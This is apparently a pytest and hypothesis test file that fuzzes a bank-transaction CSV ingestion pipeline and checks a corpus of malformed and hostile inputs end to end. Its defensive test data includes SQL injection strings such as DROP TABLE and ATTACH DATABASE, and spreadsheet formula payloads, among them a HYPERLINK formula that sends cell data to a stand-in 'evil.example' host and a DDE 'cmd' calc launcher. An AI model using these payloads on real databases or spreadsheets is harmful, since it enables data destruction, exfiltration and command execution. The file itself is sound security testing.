"""Hostile input end to end: CSV bytes -> enrich.ingest.read_chunks -> Store.load_batch -> the database.

* A hypothesis fuzz test writes files mixing valid rows (any Unicode wording, quoted
  multi-line fields, CRLF, BOM, padded numbers, duplicates, conflicting ids) with garbage
  lines (random bytes, quotes, separators, CR, NUL, invalid UTF-8) and checks that the
  only errors are the documented :class:`ingest.InputFileError` ones, that every row is
  accounted for, that every valid row is stored unaltered (against an independent parse
  of the generated row with Python's csv module) and every garbage line is in
  ``rejected_rows`` with its line and a reason.
* A corpus of named cases (invalid UTF-8, NUL bytes, a 2 MB wording, CRLF with BOM,
  reordered and extra columns, an unclosed quote, header only, an empty file, SQL
  injection, spreadsheet formulas) goes through the same path with exact expectations,
  the accounting and control-total checks, and, for a few, through the real flow.
* CSV export escapes formula cells (:mod:`enrich.export`).

tests/test_ingest.py covers the parser alone (framing, reasons, block sizes); here the
point is that nothing is lost or altered between the file and the database.
"""
from __future__ import annotations

import csv
import io
import tempfile
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from enrich import checks, export, ingest
from enrich.store import LoadStats, open_store
from tests.flow_support import run_flow

RUN = "TransactionEnrichmentFlow/1"
HEADER = b"id,amount,wording\n"
BOM = b"\xef\xbb\xbf"
MB2 = 2 * 1024 * 1024


# --------------------------------------------------------------------------- the path under test
@dataclass
class Loaded:
    stats: LoadStats
    stored: dict[int, tuple[int, str]]
    rejected: dict[int, str]  # line -> reason
    schema_intact: bool


def load_file(path: Path, database: Path, dialect: ingest.CsvDialect | None = None) -> Loaded:
    """What the flow's ingest does: parse the file and load it as one batch."""
    store = open_store(database)
    stats = store.load_batch(RUN, ingest.read_chunks(path, dialect))
    stored = {i: (c, w) for i, c, w in store.rows("SELECT id, amount_cents, wording FROM transactions")}
    rejected = {row["line"]: row["reason"] for row in store.rejected_rows(RUN)}
    return Loaded(stats, stored, rejected, store.exists())


def assert_accounted(loaded: Loaded) -> None:
    stats = loaded.stats
    assert checks.check_accounting(stats.rows_read, stats.rows_loaded, stats.rows_rejected,
                                   stats.rows_duplicate).passed, stats
    assert checks.check_control_total(stats.cents_in_file, stats.cents_stored).passed, stats
    assert stats.rows_rejected == len(loaded.rejected)
    assert all(reason.strip() for reason in loaded.rejected.values())
    assert loaded.schema_intact


def assert_clear_file_error(error: ingest.InputFileError, path: Path) -> None:
    message = str(error)
    assert message.startswith(str(path)), message
    assert any(word in message for word in ("line", "header", "empty")), message


# --------------------------------------------------------------------------- fuzz
def field_text(value: str, force_quotes: bool) -> str:
    """RFC 4180 quoting, as a bank's exporter would write the field."""
    if force_quotes or any(c in value for c in ',"\r\n'):
        return '"' + value.replace('"', '""') + '"'
    return value


def amount_text(cents: int, form: int) -> str:
    sign = "-" if cents < 0 else ""
    whole, frac = divmod(abs(cents), 100)
    forms = [f"{sign}{whole}.{frac:02d}", f"{sign}00{whole}.{frac:02d}0", f" {sign}{whole}.{frac:02d}\t"]
    if frac == 0:
        forms.append(f"{sign}{whole}")
    return forms[form % len(forms)]


def independent_parse(record: str, order: list[str]) -> tuple[int, int, str]:
    """(id, cents, wording) of one generated valid record, with Python's csv module and Decimal."""
    values = dict(zip(order, next(csv.reader(io.StringIO(record, newline="")))))
    cents = Decimal(values["amount"].strip(" \t")) * 100
    assert cents == cents.to_integral_value()
    return int(values["id"].strip(" \t")), int(cents), values["wording"]


wordings = st.text(alphabet=st.one_of(st.sampled_from(list(',"\n\r\t\x00 =+-@\'é€🙂;')),
                                      st.characters(blacklist_categories=("Cs",))), max_size=24)
valid_rows = st.tuples(st.integers(1, 40), st.integers(-10**9, 10**9), wordings, st.integers(0, 5),
                       st.booleans(), st.sampled_from(["", "x", "a,b", "é"]))

JUNK = [b"a", b"Z", b" ", b"\t", b"\x00", b"\xff", b"\xc3", b"\xe9", b"\xf0\x9f", b"\r", b";", b"'",
        b"=", b"+", b"-", b"@", b"1", b"9", b".", b"\xef\xbb\xbf", b"DROP TABLE x;--"]
unquoted_junk = st.lists(st.sampled_from(JUNK + [b'"']), max_size=6).map(b"".join) \
    .map(lambda b: b.lstrip(b'"'))  # a quote opens a quoted field only at a field's start
quoted_junk = st.tuples(st.lists(st.sampled_from(JUNK + [b'""', b","]), max_size=6).map(b"".join),
                        st.sampled_from([b"", b"", b"x", b" ", b"\x00"])) \
    .map(lambda parts: b'"' + parts[0] + b'"' + parts[1])  # closed on its line (then maybe junk)
garbage_fields = st.lists(st.one_of(unquoted_junk, quoted_junk), min_size=1, max_size=6)


def garbage_line(fields: list[bytes], n_columns: int, id_position: int) -> bytes:
    """A line that is certainly not a valid row: wrong field count, or a bad id."""
    if len(fields) == n_columns:
        fields = list(fields)
        fields[id_position] = b"x" + fields[id_position].replace(b'"', b"")
    line = b",".join(fields)
    return line if line.strip(b"\r") else b"x" + line


@dataclass
class Expected:
    stored: dict[int, tuple[int, str]] = field(default_factory=dict)
    rejected: set[int] = field(default_factory=set)
    conflicting_lines: set[int] = field(default_factory=set)
    nul_lines: set[int] = field(default_factory=set)
    duplicates: int = 0
    read: int = 0


def build_file(parts: list, order: list[str], bom: bool, terminators: list[str], final_newline: bool,
               blank_every: int) -> tuple[bytes, Expected]:
    """The file's bytes and what loading it must give.

    ``parts`` are valid rows (tuples) and garbage lines (lists of fields). A valid row
    is stored unless its wording holds a NUL (rejected) or its id also appears with
    different content (then every row of that id is rejected); identical repeats are
    duplicates.
    """
    header = ",".join(f" {name.upper()} " if i % 2 else name for i, name in enumerate(order)).encode()
    out, line, expected = [BOM + header if bom else header], 2, Expected()
    occurrences: dict[int, list[tuple[int, tuple[int, int, str]]]] = {}  # id -> (line, parsed row)
    for index, part in enumerate(parts):
        if blank_every and index % blank_every == 0:
            out.append(b"")  # a blank line (LF or CRLF) is not a row
            line += 1
        if isinstance(part, list):  # garbage
            data = garbage_line(part, len(order), order.index("id"))
            expected.rejected.add(line)
        else:
            ident, cents, wording, form, quote_all, extra = part
            values = {"id": str(ident) if form % 3 else f"00{ident}", "amount": amount_text(cents, form),
                      "wording": wording, "extra": extra}
            record = ",".join(field_text(values[name], quote_all) for name in order)
            parsed = independent_parse(record, order)
            assert parsed == (ident, cents, wording)
            if "\x00" in wording:  # no backend can store it: rejected before ids are paired
                expected.nul_lines.add(line)
            else:
                occurrences.setdefault(ident, []).append((line, parsed))
            data = record.encode("utf-8")
        expected.read += 1
        out.append(data)
        line += data.count(b"\n") + 1
    for ident, seen in occurrences.items():
        if len({parsed for _, parsed in seen}) > 1:
            expected.conflicting_lines.update(at for at, _ in seen)
        else:
            expected.stored[ident] = seen[0][1][1:]
            expected.duplicates += len(seen) - 1
    expected.rejected |= expected.conflicting_lines | expected.nul_lines
    body = b""
    for i, data in enumerate(out):
        last = i == len(out) - 1
        body += data + (b"" if last and not final_newline else terminators[i % len(terminators)].encode())
    return body, expected


PARSER_REASONS = {ingest.REASON_WRONG_FIELD_COUNT, ingest.REASON_INVALID_UTF8, ingest.REASON_BAD_ID,
                  ingest.REASON_BAD_AMOUNT, ingest.REASON_UNCLOSED_QUOTE, ingest.REASON_MALFORMED_QUOTING,
                  ingest.REASON_RECORD_TOO_LONG}


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                  HealthCheck.too_slow])
@given(parts=st.lists(st.one_of(valid_rows, valid_rows, garbage_fields), max_size=30),
       order=st.sampled_from([["id", "amount", "wording"], ["wording", "id", "amount"],
                              ["amount", "extra", "wording", "id"]]),
       bom=st.booleans(), terminators=st.lists(st.sampled_from(["\n", "\r\n"]), min_size=1, max_size=3),
       final_newline=st.booleans(), blank_every=st.sampled_from([0, 0, 3, 7]))
@example(parts=[(1, 0, "\x00", 0, False, ""), (1, 0, "0\x00", 0, False, ""), (2, 5, "a", 1, True, ""),
                (2, 5, "a\x00", 1, False, "")],
         order=["id", "amount", "wording"], bom=False, terminators=["\n"], final_newline=False, blank_every=0)
def test_fuzzed_files_are_loaded_exactly_or_rejected_with_a_reason(tmp_path, parts, order, bom, terminators,
                                                                   final_newline, blank_every):
    content, expected = build_file(parts, order, bom, terminators, final_newline, blank_every)
    with tempfile.TemporaryDirectory(dir=tmp_path) as work:
        path, database = Path(work) / "bank.csv", Path(work) / "bank.db"
        path.write_bytes(content)
        loaded = load_file(path, database)
        assert_accounted(loaded)
        assert loaded.stats.rows_read == expected.read
        assert loaded.stored == expected.stored  # every valid row, unaltered; nothing else
        assert set(loaded.rejected) == expected.rejected
        for line, reason in loaded.rejected.items():
            prefix = reason.split(":", 1)[0]
            if line in expected.conflicting_lines:
                assert prefix == "conflicting duplicate id", reason
            elif line in expected.nul_lines:
                assert prefix == ingest.REASON_NUL_IN_WORDING, reason
            else:
                assert prefix in PARSER_REASONS, reason
        assert loaded.stats.rows_duplicate == expected.duplicates
        assert path.read_bytes() == content  # the input is never touched


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(content=st.binary(max_size=400), header=st.sampled_from([HEADER, BOM + HEADER, b"", b"id,amount\n",
                                                                 b"\xff\xfe\n", b'"id,amount,wording\n']))
def test_random_bytes_never_crash_beyond_a_clear_file_error(tmp_path, content, header):
    with tempfile.TemporaryDirectory(dir=tmp_path) as work:
        path, database = Path(work) / "bank.csv", Path(work) / "bank.db"
        path.write_bytes(header + content)
        open_store(database).prepare()
        try:
            loaded = load_file(path, database)
        except ingest.InputFileError as error:
            assert_clear_file_error(error, path)
            assert open_store(database).table_counts()["transactions"] == 0
            return
        assert_accounted(loaded)
        assert loaded.stats.rows_loaded == len(loaded.stored)


def test_the_fuzz_oracle_sees_a_conflict_and_a_duplicate():
    """Sanity of build_file's bookkeeping on a hand-written case."""
    parts = [(1, 100, "a", 1, False, ""), (1, 100, "a", 1, False, ""), (2, 5, "b", 1, False, ""),
             (2, 6, "b", 1, False, ""), [b"junk"]]
    content, expected = build_file(parts, ["id", "amount", "wording"], False, ["\n"], True, 0)
    assert content == b"id, AMOUNT ,wording\n1,001.000,a\n1,001.000,a\n2,000.050,b\n2,000.060,b\njunk\n"
    assert expected.stored == {1: (100, "a")} and expected.rejected == {4, 5, 6}
    assert expected.conflicting_lines == {4, 5}
    assert (expected.duplicates, expected.read) == (1, 5)


# --------------------------------------------------------------------------- corpus
@dataclass(frozen=True)
class Case:
    name: str
    content: bytes
    stored: dict = field(default_factory=dict)  # id -> (cents, wording)
    rejected: dict = field(default_factory=dict)  # line -> reason prefix
    duplicates: int = 0
    error: type | None = None


INJECTIONS = ["'); DROP TABLE transactions;--", "Robert'); DELETE FROM tags; --", "x' OR '1'='1",
              '"; DROP TABLE runs; --', "1; ATTACH DATABASE '/tmp/x.db' AS x; --"]
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1", "-1+2", "@SUM(A1:A9)",
            "=cmd|' /C calc'!A0", "\t=1+1", "-", "+33 6 12 34 56 78"]


def rows_csv(values: list[tuple[int, str, str]], terminator: str = "\n") -> bytes:
    return "".join(f"{i},{amount},{field_text(wording, False)}{terminator}" for i, amount, wording in values).encode()


CORPUS = [
    Case("invalid_utf8", HEADER + b"1,1.00,caf\xe9\n2,2.00,ok\n3,3.00,\xff\xfe\n4,4.00,\xc3\xa9t\xc3\xa9\n",
         stored={2: (200, "ok"), 4: (400, "été")}, rejected={2: "invalid UTF-8", 4: "invalid UTF-8"}),
    Case("nul_bytes", HEADER + b"1,1.00,a\x00b\n2,-2.50,\x00\n3,3.00,\"\x00,\x00\"\n4,4.00,fine\n",
         stored={4: (400, "fine")}, rejected={2: "NUL character", 3: "NUL character", 4: "NUL character"}),
    Case("two_megabyte_wording", HEADER + b"1,1.00,PRLV " + b"W" * MB2 + b"\n2,2.00,x\n",
         stored={1: (100, "PRLV " + "W" * MB2), 2: (200, "x")}),
    Case("crlf_with_bom", BOM + b"id,amount,wording\r\n1,1.00,a\r\n2,2.00,\"b\r\nc\"\r\n\r\n3,-0.01,TAXI\r\n",
         stored={1: (100, "a"), 2: (200, "b\r\nc"), 3: (-1, "TAXI")}),
    Case("reordered_and_extra_columns",
         b'wording,extra,AMOUNT, id \n"hello, world",x,1.50,7\n"a",,-2,8\nonly,three,fields\n',
         stored={7: (150, "hello, world"), 8: (-200, "a")}, rejected={4: "wrong field count"}),
    Case("unclosed_quote", HEADER + b'1,1.00,"never closed\n2,2.00,fine\n3,3.00,"also fine"\n',
         stored={2: (200, "fine"), 3: (300, "also fine")}, rejected={2: "unclosed quote"}),
    Case("header_only", HEADER),
    Case("header_only_without_newline", b"id,amount,wording"),
    Case("empty_file", b"", error=ingest.EmptyFileError),
    Case("blank_lines_only", b"\n\r\n\n", error=ingest.EmptyFileError),
    Case("header_not_utf8", b"id,am\xffount,wording\n1,1,x\n", error=ingest.MalformedHeaderError),
    Case("header_unclosed_quote", b'"id,amount,wording\n1,1,x\n', error=ingest.InputFileError),
    Case("missing_column", b"id,montant,wording\n1,2.00,x\n", error=ingest.MissingColumnError),
    Case("sql_injection_in_wordings", HEADER + rows_csv([(i + 1, "1.00", w) for i, w in enumerate(INJECTIONS)]),
         stored={i + 1: (100, w) for i, w in enumerate(INJECTIONS)}),
    Case("sql_injection_in_id_and_amount",
         HEADER + b"1; DROP TABLE transactions,1.00,x\n2,1.00'); DROP TABLE runs;--,y\n3,1.00,z\n",
         stored={3: (100, "z")}, rejected={2: "bad id", 3: "bad amount"}),
    Case("spreadsheet_formulas", HEADER + rows_csv([(i + 1, "-1.00", w) for i, w in enumerate(FORMULAS)]),
         stored={i + 1: (-100, w) for i, w in enumerate(FORMULAS)}),
    Case("duplicates_and_conflicts", HEADER + b"1,1.00,a\n1,1.00,a\n2,2.00,b\n2,2.01,b\n3,3,c\n3,3.00,c\n",
         stored={1: (100, "a"), 3: (300, "c")}, rejected={4: "conflicting duplicate id",
                                                        5: "conflicting duplicate id"}, duplicates=2),
]


@pytest.mark.parametrize("case", CORPUS, ids=[c.name for c in CORPUS])
def test_corpus_end_to_end_into_storage(tmp_path, case, new_database):
    """Every case, on every backend: the same rows stored, the same rejections."""
    path, database = tmp_path / f"{case.name}.csv", new_database()
    path.write_bytes(case.content)
    open_store(database).prepare()
    if case.error is not None:
        with pytest.raises(case.error) as caught:
            load_file(path, database)
        assert_clear_file_error(caught.value, path)
        assert open_store(database).table_counts()["transactions"] == 0
        return
    loaded = load_file(path, database)
    assert_accounted(loaded)
    assert loaded.stored == case.stored
    assert {line: reason.split(":", 1)[0] for line, reason in loaded.rejected.items()} == case.rejected
    assert loaded.stats.rows_duplicate == case.duplicates
    assert path.read_bytes() == case.content


def test_a_french_bank_export_is_stored_with_exact_cents(tmp_path):
    """Windows-1252, ';' separators, decimal commas, a BOM-less CRLF export: read with its
    dialect, every amount is stored as the exact integer cents it says."""
    content = (
        "id;amount;wording\r\n1;-12,50;CB CARREFOUR ÉPINAL\r\n2;1500,00;\"VIR; LOYER\"\r\n"
        "3;0,01;Intérêts\r\n4;-999999999999999,99;PRÊT €\r\n5;12,345;trop de décimales\r\n"
    ).encode("cp1252") + b"6;7,10;\x81\r\n"  # 0x81 is no Windows-1252 character
    path, database = tmp_path / "releve.csv", tmp_path / "bank.db"
    path.write_bytes(content)
    loaded = load_file(path, database, ingest.CsvDialect(encoding="cp1252", delimiter=";", decimal_comma=True))
    assert_accounted(loaded)
    assert loaded.stored == {1: (-1250, "CB CARREFOUR ÉPINAL"), 2: (150000, "VIR; LOYER"), 3: (1, "Intérêts"),
                             4: (-99999999999999999, "PRÊT €")}
    assert {line: reason.split(":", 1)[0] for line, reason in loaded.rejected.items()} == {
        6: "bad amount", 7: "undecodable bytes"}
    assert loaded.stats.cents_stored == -1250 + 150000 + 1 - 99999999999999999


def test_formula_wordings_are_stored_verbatim_and_escaped_in_exported_csv(tmp_path):
    path, database = tmp_path / "f.csv", tmp_path / "bank.db"
    path.write_bytes(HEADER + rows_csv([(i + 1, "-1.00", w) for i, w in enumerate(FORMULAS + ["SAFE"])]))
    open_store(database).prepare()
    load_file(path, database)
    frame = open_store(database).enriched_transactions().to_pandas()
    assert frame["wording"].tolist() == FORMULAS + ["SAFE"]  # the database keeps them as they came
    out = export.write_csv(frame, tmp_path / "export.csv")
    with out.open(newline="", encoding="utf-8") as handle:
        written = list(csv.DictReader(handle))
    assert [r["wording"] for r in written] == ["'" + w for w in FORMULAS] + ["SAFE"]
    assert {r["amount_cents"] for r in written} == {"-100"}  # numbers are not escaped
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".export")] == []  # no temp left


# --------------------------------------------------------------------------- export unit tests
@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=x", "'\t=x"),
    ("\rx", "'\rx"), ("ok", "ok"), ("", ""), (" =x", " =x"), ("a=b", "a=b"), ("'=x", "'=x"),
])
def test_escape_formula(value, expected):
    for dtype in ("str", object):
        assert export.escape_formula(pd.Series([value], dtype=dtype)).tolist() == [expected]


def test_escape_formula_leaves_numbers_and_missing_values_alone():
    assert export.escape_formula(pd.Series([-1.5, 2.0])).tolist() == [-1.5, 2.0]
    mixed = export.escape_formula(pd.Series(["=a", -3, None, "b"], dtype=object))
    assert mixed.tolist() == ["'=a", -3, None, "b"]
    assert export.escape_formula(pd.Series([1, 2], dtype=object)).tolist() == [1, 2]


def test_write_csv_is_atomic(tmp_path, monkeypatch):
    target = tmp_path / "out.csv"
    target.write_text("old\n")
    frame = pd.DataFrame({"wording": ["=x"], "amount_cents": [-100]})

    def disk_full(*args, **kwargs):
        raise OSError(28, "No space left on device")

    with monkeypatch.context() as patched:
        patched.setattr(pd.DataFrame, "to_csv", disk_full)
        with pytest.raises(OSError):
            export.write_csv(frame, target)
    assert target.read_text() == "old\n"  # untouched, and no temporary file left
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]
    export.write_csv(frame, target)
    assert target.read_text(encoding="utf-8") == "wording,amount_cents\n'=x,-100\n"


# --------------------------------------------------------------------------- through the flow
@pytest.mark.flow
def test_flow_stores_injection_formula_and_huge_wordings_verbatim(tmp_path):
    wordings = INJECTIONS + FORMULAS + ["TAXI " + "W" * MB2]
    csv_path = tmp_path / "hostile.csv"
    csv_path.write_bytes(HEADER + rows_csv([(i + 1, f"{i + 1}.00", w) for i, w in enumerate(wordings)]))
    result = run_flow(tmp_path, csv_path)
    assert result.returncode == 0, result.stderr[-3000:]
    assert result.query("SELECT wording FROM transactions ORDER BY id") == [(w,) for w in wordings]
    assert result.query("SELECT tag FROM tags WHERE transaction_id = ?", (len(wordings),)) == [("TAXI",)]
    assert {"transactions", "tags", "annotations", "runs", "step_runs"} <= {
        name for (name,) in result.query("SELECT name FROM sqlite_master WHERE type = 'table'")}
    assert result.query("SELECT passed FROM check_results WHERE check_name IN ('accounting', 'control_total')") \
        == [(1,), (1,)]


@pytest.mark.flow
def test_flow_quarantines_broken_rows_with_their_reason(tmp_path):
    content = (BOM + b"wording,extra,amount,id\r\n" + b"caf\xe9,x,1.00,1\r\n" + b'"never closed,x,2.00,2\r\n'
               + b"fine,x,3.00,3\r\n" + b"TOTO,,-4.5,4\r\n" + b"too,many,fields,5,!\r\n")
    csv_path = tmp_path / "broken.csv"
    csv_path.write_bytes(content)
    result = run_flow(tmp_path, csv_path, reject_threshold=0.9)
    assert result.returncode == 0, result.stderr[-3000:]
    assert result.query("SELECT id, amount_cents, wording FROM transactions ORDER BY id") == [
        (3, 300, "fine"), (4, -450, "TOTO")]
    reasons = dict(result.query("SELECT line, reason FROM rejected_rows"))
    assert {line: reason.split(":", 1)[0] for line, reason in reasons.items()} == {
        2: "invalid UTF-8", 3: "unclosed quote", 6: "wrong field count"}
    assert result.query("SELECT rows_read, rows_loaded, rows_rejected, rows_duplicate FROM runs") == [(5, 2, 3, 0)]
    assert result.query("SELECT passed FROM check_results WHERE check_name = 'accounting'") == [(1,)]
    assert csv_path.read_bytes() == content


@pytest.mark.flow
def test_flow_refuses_an_empty_file_at_once_and_alerts(tmp_path):
    csv_path = tmp_path / "empty.csv"
    csv_path.write_bytes(b"")
    result = run_flow(tmp_path, csv_path)
    assert result.returncode != 0
    assert result.query("SELECT attempt, status, error_type FROM step_runs WHERE step = 'ingest'") == [
        (0, "failed", "EmptyFileError")]  # a malformed file is not retried
    body = result.sms[0]["fields"]["Body"]
    assert "ingest: EmptyFileError" in body and str(csv_path) in body
    assert result.count("transactions") == 0
